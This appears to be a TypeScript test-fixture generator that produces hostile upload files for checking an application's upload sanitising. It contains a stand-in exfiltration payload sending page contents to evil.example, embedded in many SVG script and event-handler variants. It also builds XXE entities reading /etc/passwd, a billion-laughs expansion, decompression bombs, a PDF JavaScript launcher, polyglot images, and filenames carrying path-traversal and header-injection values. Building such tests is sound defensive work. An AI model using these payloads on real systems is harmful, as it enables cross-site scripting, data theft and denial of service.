import sharp from "sharp";
import { bomb } from "./bomb.ts";
import type { Choices } from "./choices.ts";

/** A file to upload. */
export interface HostileFile {
  kind: string;
  bytes: Buffer;
  /** Where it is uploaded to. */
  to: "images" | "files";
  filename: string;
  contentType: string;
}

type Make = (choices: Choices) => Promise<Omit<HostileFile, "kind">> | Omit<HostileFile, "kind">;

const ACT = "fetch('/studio/').then(r=>r.text()).then(t=>fetch('https://evil.example/?'+t))";
const SVG =
  'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64" viewBox="0 0 64 64"';
const RECT = '<rect width="64" height="64" fill="#456"/>';

/** Drawings that act or load something. `N` becomes a number, so that no two are equal. */
const DRAWINGS: Readonly<Record<string, string>> = {
  script: `<svg ${SVG}><script>${ACT}</script>${RECT}</svg>`,
  scriptCdata: `<svg ${SVG}><script type="text/ecmascript"><![CDATA[${ACT}]]></script>${RECT}</svg>`,
  prefixedScript: `<s:svg xmlns:s="http://www.w3.org/2000/svg" width="64" height="64"><s:script>${ACT}</s:script><s:rect width="9" height="9"/></s:svg>`,
  scriptHref: `<svg ${SVG}><script xlink:href="data:text/javascript,alert(1)"/>${RECT}</svg>`,
  onload: `<svg ${SVG} onload="${ACT}">${RECT}</svg>`,
  handlers: `<svg ${SVG}><rect width="9" height="9" onclick="alert(1)" ONMOUSEOVER='alert(2)'/><image href="x" onerror="alert(3)"/></svg>`,
  animateHref: `<svg ${SVG}><a id="a"><text y="20">x</text></a><animate xlink:href="#a" attributeName="href" values="javascript:alert(1)"/></svg>`,
  setHandler: `<svg ${SVG}>${RECT}<set attributeName="onmouseover" to="alert(1)"/></svg>`,
  link: `<svg ${SVG}><a href="java&#x9;script:alert(1)"><text y="20">x</text></a></svg>`,
  foreign: `<svg ${SVG}><foreignObject width="64" height="64"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"/><script>${ACT}</script></body></foreignObject></svg>`,
  use: `<svg ${SVG}><use href="https://evil.example/x.svg#a"/><use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#a"/>${RECT}</svg>`,
  image: `<svg ${SVG}><image href="https://evil.example/x.png" width="9" height="9"/><image href="file:///etc/passwd" width="9" height="9"/></svg>`,
  styles: `<svg ${SVG}><style>@import url(https://evil.example/x.css); rect{fill:url(https://evil.example/y)}</style>${RECT}</svg>`,
  entity: `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg ${SVG}><text y="20">&x;</text></svg>`,
  laughs: `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${"bcdefghi"
    .split("")
    .map((name, n) => `<!ENTITY ${name} "${`&${"abcdefgh"[n]};`.repeat(10)}">`)
    .join("")}]><svg ${SVG}><text>&i;</text></svg>`,
  stylesheet: `<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)" type="text/xsl"?><svg ${SVG}>${RECT}</svg>`,
  filters: `<svg ${SVG}><filter id="f">${'<feTurbulence baseFrequency="0.9" numOctaves="90"/><feGaussianBlur stdDeviation="900"/><feMorphology radius="400"/>'.repeat(40)}</filter><rect width="64" height="64" filter="url(#f)"/></svg>`,
  enormous: `<svg xmlns="http://www.w3.org/2000/svg" width="99999999" height="99999999"><rect width="100%" height="100%"/></svg>`,
  deep: `<svg ${SVG}>${"<g>".repeat(20_000)}${"</g>".repeat(20_000)}</svg>`,
  handler: `<svg ${SVG}><handler type="application/ecmascript" xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${ACT}</handler>${RECT}</svg>`,
  mixed: `<svg ${SVG}><title><![CDATA[</title><script>${ACT}</script>]]></title><desc>&lt;script&gt;</desc>${RECT}</svg>`,
  plain: `<svg ${SVG}>${RECT}</svg>`,
};

/** Files that are no drawings. */
const OTHERS: Readonly<Record<string, Make>> = {
  html: (choices) =>
    file(
      `<!doctype html><script>${ACT}</script>${choices.int(0, 1e9)}`,
      "page.html",
      choices.pick([
        "text/html",
        "text/plain",
        "application/octet-stream",
        "TEXT/HTML; charset=utf-7",
      ]),
    ),
  xhtml: (choices) =>
    file(
      `<html xmlns="http://www.w3.org/1999/xhtml"><script>${ACT}//${choices.int(0, 1e9)}</script></html>`,
      choices.pick(["page.xhtml", "page.xml", "page.svg"]),
      choices.pick(["application/xhtml+xml", "text/xml", "image/svg+xml"]),
    ),
  xslt: (choices) =>
    file(
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><x id="${choices.int(0, 1e9)}"/>`,
      "a.xml",
      "application/xml",
    ),
  pdf: (choices) =>
    file(
      `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL('https://evil.example'))>>>>endobj\ntrailer<</Root 1 0 R>>%${choices.int(0, 1e9)}`,
      "a.pdf",
      "application/pdf",
    ),
  script: (choices) =>
    file(
      `${ACT}//${choices.int(0, 1e9)}`,
      choices.pick(["a.js", "a.mjs", "sw.js", "a.txt"]),
      choices.pick(["text/javascript", "application/ecmascript", "text/plain"]),
    ),
  name: (choices) =>
    file(
      `x${choices.int(0, 1e9)}`,
      choices.pick([
        "../../token",
        "a\r\nSet-Cookie: b=c",
        "a\0.html",
        "a.html;.png",
        "\u202egpj.exe",
        "a".repeat(3000),
        "con",
        ".htaccess",
        "a.\u00e9",
        "%2e%2e%2fx",
      ]),
      choices.pick([
        'text/html; charset="x',
        "a/b",
        "multipart/x-mixed-replace; boundary=x",
        "message/rfc822",
        "text/cache-manifest",
        "application/x-shockwave-flash",
      ]),
    ),
  gifScript: (choices) =>
    image(
      Buffer.from(`GIF89a/*${"\0".repeat(20)}*/=1;${ACT}//${choices.int(0, 1e9)}`),
      "a.gif",
      "image/gif",
    ),
  pngPage: async (choices) =>
    image(
      Buffer.concat([
        await png(choices.int(1, 40), choices.int(1, 40)),
        Buffer.from(`<script>${ACT}</script>`),
      ]),
      choices.pick(["a.png", "a.html"]),
      choices.pick(["image/png", "text/html"]),
    ),
  jpegPage: async (choices) =>
    image(
      await sharp(await png(30, choices.int(1, 999)))
        .jpeg()
        .withExif({ IFD0: { ImageDescription: `<script>${ACT}</script>` } })
        .toBuffer(),
      "a.jpg",
      "image/jpeg",
    ),
  bomb: (choices) =>
    image(bomb(choices.int(9000, 20_000), choices.int(9000, 20_000)), "bomb.png", "image/png"),
  lyingSize: async (choices) => {
    const bytes = await png(16, choices.int(16, 400));
    bytes.writeUInt32BE(choices.pick([0, 0x7fffffff, 100_000]), 16);
    return image(bytes, "lie.png", "image/png");
  },
  cutOff: async (choices) =>
    image(
      (await png(300, choices.int(200, 400))).subarray(0, choices.int(8, 400)),
      "cut.png",
      "image/png",
    ),
  empty: () => image(Buffer.alloc(0), "empty.png", "image/png"),
  noise: (choices) =>
    image(
      Buffer.from(choices.text("\0\x01\u00ffPNGJFIF<svg>", choices.int(1, 3000)), "latin1"),
      "noise",
      choices.pick(["image/png", "image/svg+xml", "image/heic"]),
    ),
  zip: (choices) =>
    file(
      Buffer.concat([Buffer.from("PK\x03\x04"), Buffer.alloc(choices.int(10, 4000))]),
      "a.zip",
      "application/zip",
    ),
  good: async (choices) =>
    image(await png(choices.int(20, 400), choices.int(20, 400)), "good.png", "image/png"),
};

/** The file number `n` of the family. */
export async function makeFile(choices: Choices): Promise<HostileFile> {
  if (choices.chance(0.55)) {
    const kind = choices.pick(Object.keys(DRAWINGS));
    const text = `${DRAWINGS[kind] ?? ""}<!--${choices.int(0, 1e9)}-->`;
    const encoding = choices.pick(["utf8", "utf8", "utf8", "utf16le"] as const);
    const bytes = encoding === "utf8" ? Buffer.from(text) : Buffer.from(`\ufeff${text}`, encoding);
    const to = choices.pick(["images", "images", "files"] as const);
    return {
      kind: `drawing ${kind}`,
      bytes,
      to,
      filename: "drawing.svg",
      contentType: choices.pick(["image/svg+xml", "image/svg+xml", "text/plain", "image/png"]),
    };
  }
  const kind = choices.pick(Object.keys(OTHERS));
  const make = OTHERS[kind];
  if (make === undefined) throw new RangeError(kind);
  return { kind, ...(await make(choices)) };
}

function file(
  text: string | Buffer,
  filename: string,
  contentType: string,
): Omit<HostileFile, "kind"> {
  return { bytes: Buffer.from(text), to: "files", filename, contentType };
}

function image(bytes: Buffer, filename: string, contentType: string): Omit<HostileFile, "kind"> {
  return { bytes, to: "images", filename, contentType };
}

/** A picture of one color: few bytes, however many pixels. */
function png(width: number, height: number): Promise<Buffer> {
  const background = { r: width % 256, g: height % 256, b: 90 };
  return sharp({ create: { width, height, channels: 3, background }, limitInputPixels: false })
    .png()
    .toBuffer();
}
